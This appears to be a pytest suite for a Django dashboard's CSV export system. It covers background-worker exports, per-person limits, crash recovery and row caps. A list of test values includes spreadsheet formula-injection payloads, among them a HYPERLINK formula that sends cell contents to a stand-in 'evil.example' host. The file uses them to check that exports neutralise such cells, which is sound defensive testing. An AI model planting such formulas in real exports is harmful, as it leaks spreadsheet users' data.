"""CSV exports that cannot stall the deployment.

Repro: four parallel 90-day exports made a lead's domain list take 26 s, and twenty hit
gunicorn's worker timeout and were cut off. Small exports still download at once; bigger ones
are written by the task worker into a file, with progress, a few at a time, two unfinished per
person. A Live API export that fails midway says so in its last row.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import subprocess
import threading
import time
from urllib.parse import urlencode
from zoneinfo import ZoneInfo

import pytest
from django.test import Client
from django.utils import timezone

from dashboard.accounts.roles import LEAD
from dashboard.archive.models import ArchivedRecord
from dashboard.domains.models import Domain
from dashboard.records.models import Export
from dashboard.sandbox import app as sandbox_app
from tests.conftest import ALL_DATABASES, TEAM_DOMAIN, make_user, process_env, start_db_worker


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.django_db(databases=ALL_DATABASES)
def test_exporting_the_records_page_as_it_opens_is_no_dead_end(archived, viewer, settings):
    """*Records* opened from the menu shows every domain's last 24 hours; its *Export CSV…*
    (more than a download's worth) led to /records/exports/new/? — a 400 page, nothing to
    export — and a download of it to the same."""
    settings.EXPORT_DIRECT_ROWS = 10
    client = Client()
    client.force_login(viewer)
    day = ArchivedRecord.objects.filter(
        notify_time__gte=timezone.now() - dt.timedelta(hours=24)
    ).count()
    assert day > 10
    page = client.get("/records/").content.decode()
    href = re.search(r'id="export" href="([^"]+)"', page).group(1).replace("&amp;", "&")
    confirm = client.get(href)
    assert confirm.status_code == 200
    assert f"{day:,}" in confirm.content.decode()  # the page's records, counted
    direct = client.get("/records/export.csv")
    assert direct.status_code == 303 and client.get(direct["Location"]).status_code == 200
    started = client.post(href)
    export = Export.objects.get()
    assert started["Location"] == f"/records/exports/{export.pk}/" and export.total == day


@pytest.mark.django_db(transaction=True, databases=ALL_DATABASES)
def test_a_big_export_is_written_by_the_worker_and_downloaded(archived, viewer, settings):
    settings.EXPORT_DIRECT_ROWS = 10
    client = Client()
    client.force_login(viewer)
    query = f"domain={TEAM_DOMAIN}&window=7d"
    expected = ArchivedRecord.objects.filter(domain__name=TEAM_DOMAIN).count()
    assert expected > 10
    page = client.get(f"/records/?{query}").content.decode()
    assert 'href="/records/exports/new/?' in page  # a button to a page, not a download
    direct = client.get(f"/records/export.csv?{query}")
    assert direct.status_code == 303 and direct["Location"].startswith("/records/exports/new/")
    confirm = client.get(direct["Location"])
    assert confirm.status_code == 200 and f"{expected:,}" in confirm.content.decode()
    started = client.post(direct["Location"])
    export = Export.objects.get()
    assert started["Location"] == f"/records/exports/{export.pk}/"
    assert "Queued" in client.get(started["Location"]).content.decode()
    worker = start_db_worker(
        process_env(EXPORT_DIR=str(settings.EXPORT_DIR)), stderr=subprocess.PIPE
    )
    try:
        deadline = time.monotonic() + 90
        while Export.objects.get(pk=export.pk).state != "done":
            assert time.monotonic() < deadline, "the export was not written"
            time.sleep(0.2)
    finally:
        worker.terminate()
        _out, errors = worker.communicate(timeout=30)
    assert "Traceback" not in errors, errors[-3000:]
    progress = client.get(started["Location"]).content.decode()
    assert "Ready" in progress and f"Download the CSV ({expected:,} rows)" in progress
    download = client.get(f"/records/exports/{export.pk}/download/")
    rows = rows_of(b"".join(download.streaming_content))
    assert rows[0][0] == "notify_time_utc" and len(rows) == expected + 1
    assert all(row[13].startswith("http://testserver/records/") for row in rows[1:])
    # someone else's export is not theirs to see
    other = Client()
    other.force_login(make_user("lead2", LEAD))
    assert other.get(f"/records/exports/{export.pk}/download/").status_code == 404


@pytest.mark.django_db(databases=ALL_DATABASES)
def test_each_person_has_at_most_two_exports_being_made(archived, viewer, settings):
    settings.EXPORT_DIRECT_ROWS = 10
    client = Client()
    client.force_login(viewer)
    url = f"/records/exports/new/?domain={TEAM_DOMAIN}&window=7d"
    assert client.post(url).status_code == 302
    assert client.post(url).status_code == 302
    refused = client.post(url)
    assert refused.status_code == 429
    assert "You already have 2 exports being made" in refused.content.decode()
    assert Export.objects.count() == 2


@pytest.mark.django_db(databases=ALL_DATABASES)
def test_the_confirmation_says_every_filter_the_file_is_limited_to(archived, viewer):
    """It showed the domain and the window only: an export of one stream's timeouts read as
    one of the whole domain."""
    client = Client()
    client.force_login(viewer)
    query = f"domain={TEAM_DOMAIN}&window=7d&status=failed&failure=timeout&stream=live-0"
    body = client.get(f"/records/exports/new/?{query}").content.decode()
    said = re.search(r'<div id="narrowing">(.*?)</div>', body, re.S).group(1)
    text = " ".join(re.sub(r"<[^>]+>", " ", said).split())
    assert text == "Limited to Stream: live-0 · Result: Failed · Failure: Timeout"


@pytest.mark.django_db(databases=ALL_DATABASES)
def test_the_confirmation_says_a_window_to_the_second_with_its_seconds(archived, editor):
    """An incident's exact window (21:20:41 – 21:20:42) read "21:20 – 21:20" on the
    confirmations of an export and a resend."""
    client = Client()
    client.force_login(editor)  # an editor of the domain: they may resend its failures
    client.cookies["tz"] = "America%2FNew_York"
    hour_ago = timezone.now().replace(microsecond=0) - dt.timedelta(hours=1)
    # a window that starts on a whole minute (it read "12:07 – 12:07:01", and the test failed
    # whenever the clock's seconds put its start there), and one that does not
    for start in (hour_ago.replace(second=0), hour_ago.replace(second=41)):
        end = start + dt.timedelta(seconds=1)
        window = {"start": start.isoformat(), "end": end.isoformat()}
        local = timezone.localtime(start, ZoneInfo("America/New_York"))
        said = f"{local:%Y-%m-%d %H:%M:%S}</time> – "
        query = urlencode({"domain": TEAM_DOMAIN, "window": "custom", **window})
        assert said in client.get(f"/records/exports/new/?{query}").content.decode()
        assert said in client.get(f"/redelivery/new/?{query}&status=failed").content.decode()


@pytest.mark.django_db(transaction=True, databases=ALL_DATABASES)
def test_three_tabs_pressing_export_at_once_still_make_two(archived, viewer, gunicorn):
    """Three presses of "Export" at the same moment, on three server processes made to meet
    at the person's row: two exports are made and the third is told why (each had counted
    none being made, and all three were)."""
    from tests.conftest import sent_at_one_lock, signed_in_session

    sessions = [signed_in_session(gunicorn, viewer) for _ in range(3)]
    url = f"/records/exports/new/?domain={TEAM_DOMAIN}&window=7d"
    presses = [lambda s=s: s.post(url) for s in sessions]
    answers = sent_at_one_lock("auth_user", [viewer.pk], *presses)
    for session in sessions:
        session.close()
    assert sorted(a.status_code for a in answers) == [302, 302, 429]
    refused = next(a for a in answers if a.status_code == 429)
    assert "You already have 2 exports being made" in refused.text
    assert Export.objects.filter(created_by=viewer).count() == 2


@pytest.mark.django_db(databases=ALL_DATABASES)
def test_a_small_export_still_downloads_at_once(archived, viewer):
    client = Client()
    client.force_login(viewer)
    response = client.get(f"/records/export.csv?domain={TEAM_DOMAIN}&window=1h&status=failed")
    assert response.status_code == 200
    rows = rows_of(b"".join(response.streaming_content))
    assert len(rows) == int(response["X-Export-Rows"]) + 1


@pytest.mark.django_db(databases=ALL_DATABASES)
def test_a_live_api_export_that_fails_midway_says_so_in_its_last_row(archived, viewer):
    client = Client()
    client.force_login(viewer)
    response = client.get(f"/records/export.csv?domain={TEAM_DOMAIN}&window=24h&source=live")
    assert response.status_code == 200
    # the API breaks after the export began (its first call counted the records)
    sandbox_app.faults.configure("internal=1.0")
    rows = rows_of(b"".join(response.streaming_content))
    assert rows[-1][0].startswith("!!! export incomplete: the Live API failed midway")
    assert "InternalError" in rows[-1][0]


@pytest.mark.django_db(databases=ALL_DATABASES)
def test_a_live_page_beyond_what_the_api_answers_is_a_400_with_the_reason(archived, viewer):
    client = Client()
    client.force_login(viewer)
    sandbox_app.stats.reset()
    response = client.get(f"/records/?domain={TEAM_DOMAIN}&source=live&page=1000000")
    assert response.status_code == 400
    assert "the Live API answers pages 1 to 100,000; nothing was asked" in response.content.decode()
    assert sandbox_app.stats.calls == {}


HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "＝1+1",
    "\u3000=1",  # an ideographic space before a formula
    "\u200b@SUM(1)",
    "-2+3",
    'plain, with "quotes"\nand a line break',
    "直播间 studio-7",
    "\t+1",
    "",
]


@pytest.mark.django_db(databases=ALL_DATABASES)
@pytest.mark.parametrize("seed", range(3))
def test_an_export_file_is_the_same_however_it_is_written(archived, viewer, seed):
    """On PostgreSQL the file is written by COPY, every cell made safe in SQL; it must be the
    very file the Python path writes, hostile cells and line breaks included."""
    import datetime as dt
    import random

    from django.utils import timezone

    from dashboard.archive.selectors import records_search
    from dashboard.csvexport import csv_lines
    from dashboard.domains.models import Domain
    from dashboard.records import exports
    from dashboard.records.forms import freeze_filters
    from tests.conftest import archive

    rng = random.Random(seed)
    domain = Domain.objects.get(name=TEAM_DOMAIN)
    moment = timezone.now().replace(microsecond=0)
    for n, text in enumerate(HOSTILE_TEXTS):
        archive(
            domain,
            ("failed" if n % 2 else "success", moment - dt.timedelta(seconds=n)),
            url="https://hooks.example.net/" + rng.choice(HOSTILE_TEXTS).replace("\n", ""),
            content=rng.choice(HOSTILE_TEXTS),
            header=text,
            stream=text or f"s{n}",
        )
    filters = {
        "start": moment - dt.timedelta(minutes=1),
        "end": moment + dt.timedelta(seconds=1),
        "domain": TEAM_DOMAIN,
        "domain_id": domain.pk,
        "q": "hooks.example.net",  # these records only, not the demo's of the same minute
    }
    rows = records_search(filters=filters)
    base = "http://testserver"
    expected = "".join(csv_lines(exports.HEADER, exports.export_rows(rows.iterator(), base=base)))
    export = Export.objects.create(
        created_by=viewer, query="", filters={**freeze_filters(filters), "_base": base}
    )
    assert exports.export_write(export.pk) == "done"
    export.refresh_from_db()
    written = exports.export_path(export).read_bytes().decode("utf-8")
    assert rows_of(written.encode()) == rows_of(expected.encode())  # what a reader reads
    assert written == expected  # and the very same bytes
    assert export.written == rows.count() == len(HOSTILE_TEXTS)


@pytest.mark.django_db(transaction=True, databases=ALL_DATABASES)
def test_an_export_whose_worker_was_killed_says_so_and_blocks_nothing(archived, viewer, settings):
    """The worker writing an export killed (SIGKILL: a deploy, the OOM killer): the export
    said "Being written" for ever, counted against its person's two, and its half-written
    file stayed. Ten minutes without a word from its writer, it is marked failed and says why,
    the part written is removed, and the person's next export is written."""
    import datetime as dt
    import signal

    from django.utils import timezone

    from dashboard.domains.models import Domain
    from dashboard.ops.models import SharedSlot
    from tests.conftest import archive

    # enough rows that, at 100 a second, the writer is still at it when it is killed
    now = timezone.now()
    archive(
        Domain.objects.get(name=TEAM_DOMAIN),
        *[("success", now - dt.timedelta(seconds=n)) for n in range(1, 2001)],
    )
    client = Client()
    client.force_login(viewer)
    url = f"/records/exports/new/?domain={TEAM_DOMAIN}&window=7d"
    assert client.post(url).status_code == 302
    export = Export.objects.get()
    slow = process_env(EXPORT_DIR=str(settings.EXPORT_DIR), EXPORT_ROWS_PER_SECOND="100")
    worker = start_db_worker(slow)
    try:
        deadline = time.monotonic() + 60
        while not (part := _part_of(settings, export.pk)):
            assert time.monotonic() < deadline, "the export was never being written"
            time.sleep(0.1)
    finally:
        worker.send_signal(signal.SIGKILL)
        worker.wait(timeout=30)
    assert "Being written" in client.get(f"/records/exports/{export.pk}/").content.decode()

    # eleven minutes on, for the export and for the writer's place alike
    later = timezone.now() - dt.timedelta(minutes=11)
    Export.objects.filter(pk=export.pk).update(created_at=later, reported_at=later)
    SharedSlot.objects.filter(key__startswith="lease:export:write").update(expires_at=later)
    page = client.get(f"/records/exports/{export.pk}/").content.decode()
    assert "Failed" in page and "The background worker stopped while writing this export" in page
    assert not part.exists()
    client.cookies["django_language"] = "zh-hans"  # said in the reader's language
    assert (
        "后台任务进程在写入此导出时停止了"
        in client.get(f"/records/exports/{export.pk}/").content.decode()
    )
    client.cookies["django_language"] = "en"

    assert client.post(url).status_code == 302
    assert client.post(url).status_code == 302  # two being made again: the dead one is not
    fresh = Export.objects.exclude(pk=export.pk)
    worker = start_db_worker(process_env(EXPORT_DIR=str(settings.EXPORT_DIR)))
    try:
        deadline = time.monotonic() + 90
        while fresh.exclude(state="done").exists():
            assert time.monotonic() < deadline, "the next exports were not written"
            time.sleep(0.2)
    finally:
        worker.terminate()
        worker.wait(timeout=30)


def _part_of(settings, pk: int):
    return next(iter(settings.EXPORT_DIR.glob(f"records-{pk}-*.csv.part")), None)


@pytest.mark.django_db(transaction=True, databases=ALL_DATABASES)
def test_an_export_marked_failed_while_written_stops_at_its_next_report(
    archived, viewer, settings, monkeypatch
):
    """Its writer was silent for ten minutes (stuck, not dead) and the export was marked
    failed: at its next report the writer stops, removes what it wrote and leaves the export
    failed — it does not write "Ready" over it. On PostgreSQL the reports go through a
    connection of their own while the task's streams the COPY."""
    from dashboard.records import csvwrite, exports

    monkeypatch.setattr(csvwrite, "PROGRESS_EVERY", 50)
    export = _queued_export(viewer)
    assert export.total > 120
    reports = []
    real_tick = csvwrite.Pace.tick

    def tick(pace):
        real_tick(pace)
        if pace.rows == 51:  # the first report is in: progress is recorded as it is written
            reports.append(
                exports._on_a_connection_of_its_own(
                    lambda: Export.objects.values_list("written", flat=True).get(pk=export.pk)
                )
            )
        if pace.rows == 75:  # as exports_settle does after ten silent minutes
            exports._on_a_connection_of_its_own(
                lambda: Export.objects.filter(pk=export.pk).update(state="failed")
            )

    monkeypatch.setattr(csvwrite.Pace, "tick", tick)
    assert exports.export_write(export.pk) == "stopped"
    export.refresh_from_db()
    assert export.state == "failed" and not list(settings.EXPORT_DIR.glob(f"records-{export.pk}-*"))
    assert reports == [50]


@pytest.mark.django_db(transaction=True, databases=ALL_DATABASES)
def test_a_slow_export_keeps_its_writers_place(archived, viewer, settings, monkeypatch):
    """One export is written at a time (EXPORT_WRITERS). A write slower than the writer's
    place lasts (ten minutes: a 100,000-row export at 100 rows a second takes seventeen) lost
    it half-way, and a second writer started; each report now keeps it."""
    from dashboard.ops.shared import Busy, Lease
    from dashboard.records import csvwrite, exports

    monkeypatch.setattr(csvwrite, "PROGRESS_EVERY", 10)
    monkeypatch.setattr(exports, "WRITER_LEASE_SECONDS", 2)
    export = _queued_export(viewer)
    assert export.total > 40
    other_writer = []
    real_tick = csvwrite.Pace.tick

    def try_to_write() -> str:
        try:
            Lease("export:write", limit=settings.EXPORT_WRITERS, ttl=1).acquire().release()
        except Busy:
            return "busy"
        return "took the place"

    def tick(pace):
        real_tick(pace)
        if pace.rows <= 41:
            time.sleep(0.06)  # 41 rows take over 2.4 s: past the place's 2 s unless renewed
        if pace.rows == 41:  # just after the report at 40 rows
            other_writer.append(exports._on_a_connection_of_its_own(try_to_write))

    monkeypatch.setattr(csvwrite.Pace, "tick", tick)
    assert exports.export_write(export.pk) == "done"
    assert other_writer == ["busy"]


def _queued_export(viewer) -> Export:
    """The viewer's export of the team domain's week, queued from the page."""
    client = Client()
    client.force_login(viewer)
    assert client.post(f"/records/exports/new/?domain={TEAM_DOMAIN}&window=7d").status_code == 302
    return Export.objects.get()


@pytest.mark.django_db(transaction=True, databases=ALL_DATABASES)
def test_an_export_no_worker_takes_is_failed_after_half_an_hour(archived, viewer):
    """No db_worker running: the export would say "Queued" for ever and count against its
    person's two. Half an hour after it was made it is failed, and says what to check."""
    import datetime as dt

    from django.utils import timezone

    export = _queued_export(viewer)
    client = Client()
    client.force_login(viewer)
    page = client.get(f"/records/exports/{export.pk}/").content.decode()
    assert "Queued: waiting for the background worker." in page
    Export.objects.filter(pk=export.pk).update(created_at=timezone.now() - dt.timedelta(minutes=29))
    assert "Queued" in client.get(f"/records/exports/{export.pk}/").content.decode()
    Export.objects.filter(pk=export.pk).update(created_at=timezone.now() - dt.timedelta(minutes=31))
    page = client.get(f"/records/exports/{export.pk}/").content.decode()
    assert "Failed" in page and "is manage.py db_worker running?" in page


@pytest.mark.django_db(transaction=True, databases=ALL_DATABASES)
def test_a_long_queue_behind_the_writer_is_not_taken_for_no_worker(archived, viewer, settings):
    """One export is written at a time. Behind a long queue (many people's big exports at the
    slow pace), an export made 40 minutes ago whose turn has not come was failed as "no
    background worker took this export" although a worker looks at it every few seconds; it
    now waits, says it waits its turn, and is written when the writer's place is free."""
    import datetime as dt

    from django.utils import timezone

    from dashboard.ops.shared import Lease

    export = _queued_export(viewer)
    Export.objects.filter(pk=export.pk).update(created_at=timezone.now() - dt.timedelta(minutes=40))
    writing = Lease("export:write", limit=settings.EXPORT_WRITERS, ttl=600).acquire()
    client = Client()
    client.force_login(viewer)
    worker = start_db_worker(process_env(EXPORT_DIR=str(settings.EXPORT_DIR)))
    try:
        deadline = time.monotonic() + 60
        while Export.objects.filter(pk=export.pk, reported_at__isnull=True).exists():
            assert time.monotonic() < deadline, "no worker looked at the queued export"
            time.sleep(0.2)
        page = client.get(f"/records/exports/{export.pk}/").content.decode()
        assert "Failed" not in page
        assert "Queued: waiting for its turn (one export is written at a time)." in page
        writing.release()
        deadline = time.monotonic() + 90
        while not Export.objects.filter(pk=export.pk, state="done").exists():
            assert time.monotonic() < deadline, "the export was not written once its turn came"
            time.sleep(0.2)
    finally:
        worker.terminate()
        worker.wait(timeout=30)
    assert "Download the CSV" in client.get(f"/records/exports/{export.pk}/").content.decode()


@pytest.mark.django_db(transaction=True, databases=ALL_DATABASES)
def test_a_big_export_is_written_while_the_harvester_writes(archived, viewer, settings):
    """On SQLite (`make run`) the export read its rows through a cursor left open between
    chunks; its progress, written on the same connection, failed with "database is locked"
    once another process (the harvester) had written: "Failed: OperationalError"."""
    from tests.conftest import archive

    settings.EXPORT_DIRECT_ROWS = 10
    domain = Domain.objects.get(name=TEAM_DOMAIN)
    start = timezone.now().replace(microsecond=0) - dt.timedelta(hours=5)
    many = 6_500  # past the first progress report (every 5,000 rows), in several chunks
    archive(
        domain,
        *[("success", start + dt.timedelta(milliseconds=500 * i)) for i in range(many)],
        stream="busy-export",
    )
    client = Client()
    client.force_login(viewer)
    started = client.post(f"/records/exports/new/?domain={TEAM_DOMAIN}&stream=busy-export")
    export = Export.objects.get()
    assert started.status_code == 302 and export.total == many
    done = threading.Event()
    writes = []

    def harvester() -> None:  # another connection committing all along, as harvesting does
        from django.db import connections

        try:
            while not done.is_set():
                Domain.objects.filter(pk=domain.pk).update(last_synced_at=timezone.now())
                writes.append(1)
                time.sleep(0.005)
        finally:
            connections.close_all()

    other = threading.Thread(target=harvester)
    other.start()
    worker = start_db_worker(
        process_env(EXPORT_DIR=str(settings.EXPORT_DIR), EXPORT_ROWS_PER_SECOND="2000"),
        stderr=subprocess.PIPE,
    )
    try:
        deadline = time.monotonic() + 90
        while Export.objects.get(pk=export.pk).state in Export.UNFINISHED:
            if time.monotonic() > deadline:
                break
            time.sleep(0.2)
    finally:
        done.set()
        other.join()
        worker.terminate()
        _out, errors = worker.communicate(timeout=30)
    export.refresh_from_db()
    assert "Traceback" not in errors and "locked" not in errors, errors[-3000:]
    assert (export.state, export.error) == ("done", ""), errors[-3000:]
    assert export.written == many and len(writes) > 100


@pytest.mark.django_db(databases=ALL_DATABASES)
def test_an_export_of_more_than_it_holds_says_so(archived, viewer, settings, monkeypatch):
    """The confirmation of an export of 325,181 records read "Records: 100,001 (the first
    100,000 are exported)" — a count no page had shown; the finished export "100,000 of 100,000
    rows", as if it were all."""
    from dashboard.records import exports

    monkeypatch.setattr(exports, "CAP", 5)
    settings.EXPORT_DIRECT_ROWS = 2
    client = Client()
    client.force_login(viewer)
    url = f"/records/exports/new/?domain={TEAM_DOMAIN}&window=7d"
    body = " ".join(re.sub(r"<[^>]+>", " ", client.get(url).content.decode()).split())
    assert "Records More than 5 (an export holds 5: the newest 5 are exported" in body
    assert "Records 6" not in body
    client.post(url)
    export = Export.objects.get()
    assert export.total == 5
    done = client.get(f"/records/exports/{export.pk}/").content.decode()
    assert "An export holds at most 5 rows: these are the newest 5 that matched." in done
    # one that holds all it matched says nothing of the kind
    small = f"/records/exports/new/?domain={TEAM_DOMAIN}&window=1h&status=failed&stream=none"
    assert "More than" not in client.get(small).content.decode()
